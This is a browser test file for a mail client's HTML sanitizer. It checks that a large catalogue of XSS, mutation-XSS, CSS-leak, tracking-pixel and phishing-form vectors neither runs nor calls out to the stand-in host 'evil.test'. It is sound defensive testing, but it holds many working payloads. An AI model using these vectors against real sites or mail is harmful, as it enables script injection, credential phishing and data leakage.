import { expect } from '@open-wc/testing';
import { base } from '../../theme/index.ts';
import { messageStyles } from './message.styles.ts';
import { sanitizeMail, type SanitizedMail } from './sanitize-html.ts';
import { loadSanitizer, type SanitizerKind } from './sanitize-parse.ts';

/** Every vector that runs calls `xss()` or opens a dialog; every one that calls out asks `evil.test`. */
const VECTORS: Readonly<Record<string, readonly string[]>> = {
  'script elements': [
    '<script>xss()</script>', '<SCRIPT>xss()</SCRIPT>', '<script src="https://evil.test/x.js"></script>', '<script type="module">xss()</script>',
    '<scr<script>ipt>xss()</scr</script>ipt>', '<script/xss>xss()</script>', '<script\n>xss()</script\n>', '<script>xss()', '<<script>xss();//<</script>',
    '<script async src=//evil.test/x.js>', '<script type="text/plain">xss()</script>', '<script>/*<!--*/xss()/*-->*/</script>', '<script nonce="x">xss()</script>',
    '<script type="importmap">{"imports":{"a":"https://evil.test/a.js"}}</script>', '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/p"]}]}</script>',
  ],
  'event handlers': [
    '<img src=x onerror=xss()>', '<img src=x onerror="xss()" >', '<img/src=x/onerror=xss()>', '<img src=x\tonerror\t=\txss()>', '<IMG SRC=x OnErRoR=xss()>', '<img src=x onerror=&#120;ss()>',
    '<img src=x onerror="&#x78;ss()">', '<img src="data:image/png;base64,AAAA" onerror="xss()">', '<body onload=xss()>', '<body onpageshow=xss()>', '<body onhashchange=xss()>', '<body onmessage=xss()>',
    '<p onclick=xss()>click</p>', '<a href=# onclick=xss()>click</a>', '<div onmouseover=xss()>over</div>', '<div onpointerenter=xss()>over</div>', '<div onfocus=xss() tabindex=1 autofocus>x</div>',
    '<div contenteditable onfocus=xss() autofocus>x</div>', '<details open ontoggle=xss()>x</details>', '<details ontoggle=xss() open><summary>a</summary>b</details>', '<div onanimationstart=xss() style="animation:x 1s">x</div>',
    '<div ontransitionend=xss()>x</div>', '<div onscrollend=xss() style="overflow:scroll;height:1px"><br><br><br></div>', '<video onloadstart=xss()><source src=x></video>', '<audio src=x onerror=xss()></audio>',
    '<video><source onerror=xss() src=x></video>', '<marquee onstart=xss()>x</marquee>', '<object onerror=xss() data=x></object>', '<div popover onbeforetoggle=xss() id=p>x</div><button popovertarget=p>go</button>',
    '<div oncontentvisibilityautostatechange=xss() style="content-visibility:auto">x</div>', '<input oninput=xss() value=x>', '<table onmouseover=xss()><tr><td onclick=xss()>x', '<p oncopy=xss()>x</p>', '<p onwheel=xss()>x</p>',
    '<a onfocusin=xss() href="https://ok.test">x</a>', '<img src=x on\nerror=xss()>', '<img src=x onerror\x0b=xss()>', '<img src=x onerror\x0c=xss()>', '<font onmouseenter=xss() color=red>x</font>', '<p onbeforematch=xss() hidden=until-found>x</p>',
  ],
  'script addresses': [
    '<a href="javascript:xss()">x</a>', '<a href="JaVaScRiPt:xss()">x</a>', '<a href=" javascript:xss()">x</a>', '<a href="java\nscript:xss()">x</a>', '<a href="java\tscript:xss()">x</a>', '<a href="java\rscript:xss()">x</a>',
    '<a href="&#106;avascript:xss()">x</a>', '<a href="&#x6a;avascript:xss()">x</a>', '<a href="javascript&colon;xss()">x</a>', '<a href="java&Tab;script:xss()">x</a>', '<a href="java&NewLine;script:xss()">x</a>', '<a href="\x01javascript:xss()">x</a>',
    '<a href="\u00a0javascript:xss()">x</a>', '<a href="\ufeffjavascript:xss()">x</a>', '<a href="javascript://ok.test/%0axss()">x</a>', '<a href="javascript:/*https://ok.test*/xss()">x</a>', '<a href="vbscript:xss()">x</a>', '<a href="livescript:xss()">x</a>',
    '<a href="view-source:javascript:xss()">x</a>', '<a href="feed:javascript:xss()">x</a>', '<a href="jar:https://evil.test!/x">x</a>', '<a href="blob:https://evil.test/x">x</a>', '<a href="filesystem:https://evil.test/x">x</a>', '<a href="intent://x#Intent;end">x</a>',
    '<a href="file:///etc/passwd">x</a>', '<a href="ms-msdt:/id">x</a>', '<a href="//evil.test">x</a>', '<a href="\\\\evil.test\\x">x</a>', '<a href="?next=1" target=_top>x</a>', '<area href="javascript:xss()">', '<img src="javascript:xss()">', '<img src=x usemap="#m"><map name=m><area href="javascript:xss()" shape=default></map>',
    '<a ping="https://evil.test/ping" href="https://ok.test">x</a>', '<a href="https://ok.test" attributionsrc="https://evil.test/a">x</a>', '<a href="https://ok.test" target=_self download>x</a>', '<q cite="javascript:xss()">x</q>', '<blockquote cite="https://evil.test">x</blockquote><p>y</p>',
  ],
  'data addresses': [
    '<a href="data:text/html,<script>xss()</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">x</a>', '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'xss()\'/>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0ieHNzKCkiLz4=">', '<img src="data:text/html,x">', '<img src="data:image/png,raw">', '<img src="data:image/png;base64,AA==\'onerror=xss()">', '<iframe src="data:text/html,<script>parent.xss()</script>"></iframe>',
    '<object data="data:text/html,<script>xss()</script>"></object>', '<embed src="data:image/svg+xml,<svg onload=xss()>">',
  ],
  'SVG': [
    '<svg onload=xss()>', '<svg><script>xss()</script></svg>', '<svg><script href="https://evil.test/x.js"/></svg>', '<svg><script href="data:text/javascript,xss()"/></svg>', '<svg/onload=xss()//', '<svg><a href="javascript:xss()"><text y=20>x</text></a></svg>',
    '<svg><a><animate attributeName=href values=javascript:xss() /><text y=20>x</text></a></svg>', '<svg><animate onbegin=xss() attributeName=x dur=1s>', '<svg><set onbegin=xss() attributeName=x>', '<svg><use href="data:image/svg+xml,<svg id=x onload=xss()>#x"/></svg>',
    '<svg><use href="https://evil.test/x.svg#x"/></svg>', '<svg><image href="https://evil.test/x.png" onerror=xss() /></svg>', '<svg><foreignObject><iframe srcdoc="<script>parent.xss()</script>"></iframe></foreignObject></svg>', '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
    '<svg><desc><img src=x onerror=xss()></desc></svg>', '<svg><title><img src=x onerror=xss()></title></svg>', '<svg><style>*{background:url(https://evil.test/b)}</style></svg>', '<svg><filter><feImage href="https://evil.test/f"/></filter></svg>', '<svg><discard onbegin=xss()>', '<svg><p><style><img src=x onerror=xss()></style></p></svg>',
  ],
  'MathML': [
    '<math><mi xlink:href="javascript:xss()">x</mi></math>', '<math href="javascript:xss()">x</math>', '<math><maction actiontype="statusline" xlink:href="javascript:xss()">x</maction></math>', '<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>',
    '<math><mtext><img src=x onerror=xss()></mtext></math>', '<math><mglyph src="https://evil.test/g"></math>', '<math><mtext><script>xss()</script></mtext></math>', '<math><ms><p onclick=xss()>x</p></ms></math>',
  ],
  'markup that changes when it is parsed twice': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>', '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
    '<noscript><p title="</noscript><img src=x onerror=xss()>">', '<noembed><p title="</noembed><img src=x onerror=xss()>">', '<noframes><p title="</noframes><img src=x onerror=xss()>">', '<xmp><p title="</xmp><img src=x onerror=xss()>">', '<iframe><p title="</iframe><img src=x onerror=xss()>">',
    '<style><p title="</style><img src=x onerror=xss()>">', '<title><p title="</title><img src=x onerror=xss()>">', '<textarea><p title="</textarea><img src=x onerror=xss()>">', '<math><style><img src=x onerror=xss()></style></math>', '<p><svg><style><a title="</style><img src=x onerror=xss()>"></svg>',
    '<table><math><select><mglyph><style><math><table id="</table><img src onerror=xss()>">', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=xss()>"></style></h1>', '<svg><![CDATA[<img src=x onerror=xss()>]]></svg>', '<svg><![CDATA[><img src=x onerror=xss()>]]>',
    '<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror=xss()&gt;</xmp></annotation-xml></math>', '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=xss()>">', '<a><table><a href=x><img src=x onerror=xss()></table>',
    `${'<div>'.repeat(600)}<img src=x onerror=xss()>`, `${'<form><h1>'.repeat(300)}<svg><style><img src=x onerror=xss()>`, '<p id="<!--"><img title="--><img src=x onerror=xss()>">', '<listing>&lt;img src=x onerror=xss()&gt;</listing>', '<plaintext><img src=x onerror=xss()>',
    '<img alt="`><img src=x onerror=xss()>`">', '<a title="&lt;/a&gt;&lt;img src=x onerror=xss()&gt;" href="https://ok.test">x</a>', '&lt;img src=x onerror=xss()&gt;', '&amp;lt;img src=x onerror=xss()&amp;gt;',
  ],
  'styles': [
    '<style>@import "https://evil.test/i.css"; body{display:none}</style>', '<style>*{color:red!important}</style>', '<link rel=stylesheet href="https://evil.test/s.css">', '<p style="background:url(https://evil.test/b)">x</p>', '<p style="background-image:image-set(\'https://evil.test/s\' 1x)">x</p>',
    '<p style="list-style-image:url(https://evil.test/l)">x</p>', '<p style="content:url(https://evil.test/c)">x</p>', '<p style="cursor:url(https://evil.test/cur),auto">x</p>', '<p style="width:expression(xss())">x</p>', '<p style="behavior:url(x.htc);-moz-binding:url(https://evil.test/x)">x</p>',
    '<p style="mask:url(https://evil.test/m)">x</p>', '<p style="filter:url(https://evil.test/f#x)">x</p>', '<p style="font-family:x;src:url(https://evil.test/font)">x</p>', '<p style="--x:url(https://evil.test/v);background:var(--x)">x</p>', '<p style="color:red;/*</p>*/background:u\\72l(https://evil.test/e)">x</p>',
    '<p style="border-image:url(https://evil.test/bi)">x</p>', '<p style="shape-outside:url(https://evil.test/so);float:left">x</p>', '<p style="offset-path:url(https://evil.test/o)">x</p>', '<body background="https://evil.test/bg"><table background="https://evil.test/tb"><tr><td background="https://evil.test/td">x', '<font face="x;background:url(https://evil.test/ff)" color="red;background:url(https://evil.test/fc)">x</font>',
    '<p style="text-align:left;animation-name:evil;transition:all 1s">x</p>', '<p style="color:light-dark(red,url(https://evil.test/ld))">x</p>', '<p style="font-weight:bold}body{display:none">x</p>',
  ],
  'painting over the page': [
    '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>', '<div style="position:absolute;top:-500px;left:-500px">x</div>', '<div style="position:sticky;top:0">x</div>', '<div style="margin:-900px 0 0 -900px">x</div>', '<div style="transform:translate(-900px,-900px) scale(50)">x</div>',
    '<div style="float:left;width:9000px;height:9000px">x</div>', '<div style="width:100vw;height:100vh;box-shadow:0 0 0 9999px red">x</div>', '<div style="outline:9999px solid red">x</div>', '<div style="font-size:9000px">x</div>', '<div style="translate:-900px -900px;rotate:45deg">x</div>',
    '<div style="top:0;left:0;position:fixed!important">x</div>', '<div style="position-anchor:--a;inset-area:top">x</div>', '<div style="text-shadow:-900px -900px red;letter-spacing:9000px;line-height:9000px">x</div>', '<img width=9999 height=9999 src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==">',
    '<table width=99999 height=99999><tr><td>x</table>', '<div style="view-transition-name:root;contain:none">x</div>', '<dialog open style="position:fixed">x</dialog>', '<div popover=manual style="display:block">x</div>', `<pre>${'x'.repeat(20000)}</pre>`, '<div style="direction:rtl;text-indent:-9999px;margin-inline-start:-500px">x</div>',
    `<p>${'Z\u0351\u0323'.repeat(5)}${'\u0351'.repeat(500)}</p>`, '<bdo dir=rtl>evil</bdo>', '<p>\u202e\u2066evil</p>',
  ],
  'templates and shadow roots': [
    '<template><img src=x onerror=xss()></template>', '<template shadowrootmode=open><img src=x onerror=xss()></template>', '<div><template shadowrootmode=open><script>xss()</script></template></div>', '<div><template shadowrootmode="closed"><style>:host{position:fixed}</style></template></div>',
    '<template><template><script>xss()</script></template></template>', '<slot name=x></slot><p slot=footer>x</p>', '<p part=submit>x</p>', '<support-form></support-form><customer-portal gateway="https://evil.test"></customer-portal>', '<portal-login gateway="https://evil.test"></portal-login>', '<x-evil is=evil></x-evil><button is=evil-button>x</button>',
  ],
  'forms and controls': [
    '<form action="https://evil.test"><input name=password type=password><button>Sign in</button></form>', '<form action="javascript:xss()"><input type=submit></form>', '<button formaction="javascript:xss()">x</button>', '<input type=image src="https://evil.test/i">', '<input autofocus onfocus=xss()>', '<textarea autofocus onfocus=xss()>x</textarea>',
    '<select autofocus onfocus=xss()><option>x</select>', '<keygen autofocus onfocus=xss()>', '<isindex action="javascript:xss()" type=image>', '<label for=reply-text>x</label>', '<button type=submit form=f>x</button>', '<input type=hidden name=csrf value=x>', '<output form=f>x</output><progress value=1></progress><meter value=1></meter>', '<fieldset><legend>Sign in</legend><input></fieldset>',
    '<button commandfor=x command=show-modal>x</button>', '<button popovertarget=x>x</button>',
  ],
  'frames and plugins': [
    '<iframe src="https://evil.test"></iframe>', '<iframe src="javascript:parent.xss()"></iframe>', '<iframe srcdoc="<script>parent.xss()</script>"></iframe>', '<iframe onload=xss()></iframe>', '<frameset onload=xss()><frame src="https://evil.test"></frameset>', '<object data="https://evil.test"></object>', '<object type="text/x-scriptlet" data="https://evil.test"></object>',
    '<embed src="https://evil.test">', '<embed src="javascript:xss()">', '<applet code=x archive="https://evil.test"></applet>', '<portal src="https://evil.test"></portal>', '<fencedframe src="https://evil.test"></fencedframe>', '<webview src="https://evil.test"></webview>', '<object><param name=movie value="https://evil.test"><embed src="https://evil.test"></object>', '<bgsound src="https://evil.test/s">', '<layer src="https://evil.test"></layer>',
  ],
  'head elements': [
    '<base href="https://evil.test/">', '<base target=_top>', '<meta http-equiv=refresh content="0;url=https://evil.test">', '<meta http-equiv=refresh content="0;url=javascript:xss()">', '<meta http-equiv="Content-Security-Policy" content="default-src *">', '<meta name=referrer content=unsafe-url>', '<meta http-equiv="origin-trial" content="x">',
    '<link rel=prefetch href="https://evil.test/p">', '<link rel=preload as=image href="https://evil.test/p">', '<link rel=dns-prefetch href="//evil.test">', '<link rel=modulepreload href="https://evil.test/m.js">', '<link rel=icon href="https://evil.test/i">', '<link rel=manifest href="https://evil.test/m">', '<link rel=prerender href="https://evil.test">', '<head><title>x</title></head>', '<html manifest="https://evil.test/m" onclick=xss()><body>x',
  ],
  'names that hide others': [
    '<img name=getElementById>', '<img name=body><img name=cookie>', '<form id=attributes><input name=attributes><input name=nodeName></form>', '<a id=config><a id=config name=url href="https://evil.test">', '<form name=createElement><input id=x></form>', '<form><input name=parentNode><input name=childNodes><img src=x onerror=xss()></form>', '<img id=heading><p id=reply-text class=primary>x</p>',
    '<form id=x tabindex=0 onfocus=xss()><input name=attributes></form>', '<object name=implementation></object>', '<a id=__proto__ name=hasOwnProperty>x</a>', '<p title=__proto__ lang=constructor dir=toString>x</p>', '<input name=ownerDocument><svg onload=xss()>',
  ],
  'broken markup': [
    '<img src="x` `<script>xss()</script>"` `>', '<img """><script>xss()</script>">', '<a href="x"onmouseover="xss()">x</a>', '<<a|ascript>alert(1)</script>', '<img src=x onerror=xss()', '<a href=\'javascript:xss()\' title="\'>x</a>', '</p><img src=x onerror=xss()><p>', '<div <img src=x onerror=xss()>>', '<\x00script>xss()</script>', '<scr\x00ipt>xss()</scr\x00ipt>',
    '<img\x00 src=x onerror=xss()>', '<img src=x\x00onerror=xss()>', '<%00img src=x onerror=xss()>', '<?xml version="1.0"?><img src=x onerror=xss()>', '<?import namespace="t" implementation="#x">', '<!DOCTYPE html><!--><img src=x onerror=xss()>-->', '<!--><img src=x onerror=xss()>', '<!--!><img src=x onerror=xss()>', '<!-- --!><img src=x onerror=xss()>', '<![if IE]><img src=x onerror=xss()><![endif]>',
    '<!--[if gte IE 4]><script>xss()</script><![endif]-->', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">xss()</x:script>', '<o:p><img src=x onerror=xss()></o:p>', '<a/href=javascript:xss()>x</a>', '</ onclick=xss()>', '<a\u3000href="javascript:xss()">x</a>', '<img src=x:x onerror\u00a0=xss()>', '<image src=x onerror=xss()>', '<table><td><script>xss()</script></table><table><img src=x onerror=xss()></table>', '\u00bcscript\u00besxss()\u00bc/script\u00be', '+ADw-script+AD4-xss()+ADw-/script+AD4-', '<xss onclick=xss() tabindex=0>x</xss>',
  ],
  'calls to other sites': [
    '<img src="https://evil.test/pixel.gif">', '<img src="//evil.test/pixel.gif">', '<img src="http://evil.test/pixel.gif" width=1 height=1>', '<img srcset="https://evil.test/1x 1x, https://evil.test/2x 2x">', '<picture><source srcset="https://evil.test/s"><img src="https://evil.test/i"></picture>', '<img src="HTTPS://evil.test/i" loading=eager>', '<img src="\thttps://evil.test/t">', '<img src="https:\\\\evil.test\\b">', '<img lowsrc="https://evil.test/l" dynsrc="https://evil.test/d">', '<img longdesc="https://evil.test/ld" src="data:image/png;base64,AA==">',
    '<video src="https://evil.test/v" autoplay></video>', '<video poster="https://evil.test/p"></video>', '<audio src="https://evil.test/a" autoplay></audio>', '<video><track src="https://evil.test/t" default></video>', '<img src="cid:missing">', '<img src="cid:../../evil">', '<img src="ftp://evil.test/f">', '<img src="https://evil.test/a" crossorigin=use-credentials fetchpriority=high>', '<img src="https://evil.test/a" attributionsrc>', '<div itemscope itemtype="https://evil.test"><link itemprop=x href="https://evil.test/ip"></div>', '<html xmlns:x="https://evil.test"><x:img src="https://evil.test/x">', '<img src="ws://evil.test/w">', '<img src="https&colon;//evil.test/c">',
  ],
};

const ELEMENTS = /^(?:p|div|span|blockquote|pre|[ou]l|li|d[ldt]|[bh]r|a|img|wbr|b|strong|i|em|u|s|strike|del|ins|small|su[bp]|code|kbd|samp|var|tt|mark|q|cite|abbr|bd[io]|ruby|r[bpt]|figure|figcaption|table|caption|t(?:head|body|foot|[dhr])|col|colgroup|details|summary)$/;
const ATTRIBUTES = /^(?:dir|lang|title|style|class|href|target|rel|src|alt|width|height|colspan|rowspan|scope|span|start|type|reversed|value|role|aria-label)$/;
const OURS = /^(?:mail-heading|mail-table|image-text|quoted|quoted-body|when-closed|when-open)$/;
const HARMLESS_STYLE = /^(?:font-weight|font-style|text-decoration(?:-line|-style|-color|-thickness)?|text-align|vertical-align|white-space(?:-collapse)?|list-style-type|direction|font-family|color)$/;

let executed = 0;
const hit = (): void => { executed += 1; };

/** What of a built mail the allow-list does not name; empty where all is well. */
function strangers(root: ParentNode): string[] {
  return [...root.querySelectorAll<HTMLElement>('*')].flatMap((element) => {
    const wrong: string[] = [];
    if (!ELEMENTS.test(element.localName)) wrong.push(`<${element.localName}>`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES.test(name)) wrong.push(`${element.localName}[${name}]`);
      if (name === 'class' && value.split(' ').some((one) => !OURS.test(one))) wrong.push(`class ${value}`);
      if (name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(value)) wrong.push(`href ${value}`);
      if (name === 'src' && !/^data:image\/(?:png|jpe?g|gif|webp|bmp|avif);base64,[\w+/=]+$/.test(value)) wrong.push(`src ${value}`);
    }
    for (const property of element.style) {
      if (!HARMLESS_STYLE.test(property) || /url|expression|image-set/i.test(element.style.getPropertyValue(property))) wrong.push(`style ${property}`);
    }
    if (element.localName === 'a' && (element.getAttribute('rel') !== 'noopener noreferrer nofollow' || element.getAttribute('target') !== '_blank')) wrong.push('link');
    return wrong;
  });
}

const sanitize = (html: string, kind: SanitizerKind): SanitizedMail => sanitizeMail(html, {
  remoteImages: false, kind, pictureName: () => undefined, missingImage: (alt) => alt,
  fold: (quote) => {
    const details = document.createElement('details');
    details.append(document.createElement('summary'), quote);
    return details;
  },
})!;

const settled = (): Promise<void> => new Promise((resolve) => { requestAnimationFrame(() => { setTimeout(resolve, 30); }); });
const callsOut = (): string[] => performance.getEntriesByType('resource').map(({ name }) => name).filter((name) => name.includes('evil.test'));

for (const kind of ['native', 'dompurify'] as const) {
  describe(`hostile mail (${kind})`, () => {
    let stage: HTMLElement;
    let box: HTMLElement;
    const dialogs = ['alert', 'confirm', 'prompt', 'print', 'open'] as const;
    const originals = dialogs.map((name) => window[name]);

    before(async () => {
      await loadSanitizer(kind);
      Object.assign(window, { xss: hit, ...Object.fromEntries(dialogs.map((name) => [name, hit])) });
      stage = document.createElement('div');
      stage.style.cssText = 'position: relative; inline-size: 400px; margin: 200px;';
      document.body.append(stage);
      const root = stage.attachShadow({ mode: 'open' });
      root.adoptedStyleSheets = [...base, messageStyles].flatMap(({ styleSheet }) => styleSheet ?? []);
      box = document.createElement('div');
      box.className = 'message-body html';
      box.style.maxBlockSize = '150px';
      root.append(box);
    });

    after(() => {
      stage.remove();
      Object.assign(window, Object.fromEntries(dialogs.map((name, index) => [name, originals[index]])));
      delete (window as { xss?: unknown }).xss;
    });

    it('is a real danger: the same markup runs and calls out where it is not sanitised', async () => {
      executed = 0;
      const raw = document.createElement('div');
      raw.innerHTML = '<img src="https://evil.test/control.gif" onerror="xss()">';
      document.body.append(raw);
      while (executed === 0) await settled();
      raw.remove();
      expect(callsOut()).to.deep.equal(['https://evil.test/control.gif']);
      performance.clearResourceTimings();
    });

    for (const [category, vectors] of Object.entries(VECTORS)) {
      it(`does nothing and leaves its box nowhere: ${category} (${String(vectors.length)})`, async () => {
        executed = 0;
        const before = { address: location.href, children: document.body.childElementCount, head: document.head.childElementCount, keys: Object.keys(window).length };
        performance.clearResourceTimings();
        for (const vector of vectors) {
          box.replaceChildren(sanitize(vector, kind).fragment);
          expect(strangers(box), vector).to.deep.equal([]);
          for (const details of box.querySelectorAll('details')) details.open = true;
          for (const element of box.querySelectorAll<HTMLElement>('*')) {
            expect(getComputedStyle(element).position, vector).to.equal('static');
            element.addEventListener('click', (event) => { event.preventDefault(); });
            for (const type of ['click', 'mouseover', 'pointerenter', 'focusin', 'animationstart', 'toggle', 'error', 'load', 'copy', 'wheel']) {
              element.dispatchEvent(new Event(type, { bubbles: true, cancelable: true }));
            }
            element.focus();
          }
          // A point beside, above and below the box never belongs to it.
          const area = box.getBoundingClientRect();
          expect(area.width, vector).to.be.at.most(400);
          for (const [x, y] of [[area.left - 3, area.top + 5], [area.right + 3, area.top + 5], [area.left + 5, area.top - 3], [area.left + 5, area.bottom + 3]] as const) {
            expect(stage.shadowRoot!.elementsFromPoint(x, y).some((element) => box.contains(element)), vector).to.be.false;
          }
        }
        await settled();
        expect(executed, 'executions').to.equal(0);
        expect(callsOut(), 'calls').to.deep.equal([]);
        expect({ address: location.href, children: document.body.childElementCount, head: document.head.childElementCount, keys: Object.keys(window).length }).to.deep.equal(before);
      });
    }

    it('does nothing with all of it in one mail, nor with one vector in another', async () => {
      executed = 0;
      const all = Object.values(VECTORS).flat();
      box.replaceChildren(sanitize(all.join('\n'), kind).fragment);
      expect(strangers(box)).to.deep.equal([]);
      for (const [index, vector] of all.entries()) {
        const other = all[(index * 7 + 3) % all.length] ?? '';
        box.replaceChildren(sanitize(`<table><tr><td title='${vector}'>${other}<svg>${vector}</svg><p>${vector.slice(0, -2)}${other}`, kind).fragment);
        expect(strangers(box), vector).to.deep.equal([]);
      }
      await settled();
      expect(executed).to.equal(0);
      expect(callsOut()).to.deep.equal([]);
    });

    it('loads images from other sites only after the click, without a referrer, and never those that only count readers', () => {
      const mail = (remoteImages: boolean): SanitizedMail => sanitizeMail('<p><img src="//pictures.invalid/a.png" alt="Our shop" srcset="x 2x"><img src="https://pictures.invalid/p.gif" width=1 height=1></p>', {
        kind, remoteImages, pictureName: () => undefined, missingImage: () => '', fold: (quote) => quote,
      })!;
      const blocked = mail(false);
      expect(blocked.blockedImages).to.equal(1);
      expect(blocked.fragment.querySelector('img')).to.be.null;
      expect(blocked.fragment.textContent).to.equal('Our shop');
      const [image, ...others] = mail(true).fragment.querySelectorAll('img');
      expect(others).to.be.empty;
      expect(image!.src).to.equal('https://pictures.invalid/a.png');
      expect(image!.referrerPolicy).to.equal('no-referrer');
      image!.src = '';
    });
  });
}

it('has at least 150 vectors', () => {
  expect(Object.values(VECTORS).flat().length).to.be.at.least(150);
});
